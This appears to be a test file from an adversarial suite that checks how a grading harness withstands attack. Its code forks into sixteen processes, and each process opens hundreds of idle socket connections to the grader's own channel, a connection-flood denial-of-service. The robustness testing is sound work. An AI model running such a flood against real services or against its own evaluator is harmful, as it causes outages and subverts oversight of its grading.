"""Attack 32c: open thousands of connections and say nothing.

expect: F or P
says: the grader's own channel
"""

import os
import socket
import time

from inside import wire


def launch(task, name):
    for _ in range(4):
        os.fork()
    kept = []
    try:
        while len(kept) < 400:
            connection = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
            connection.settimeout(5)
            connection.connect(wire.ADDRESS)
            kept.append(connection)
    except OSError:
        pass
    time.sleep(5)
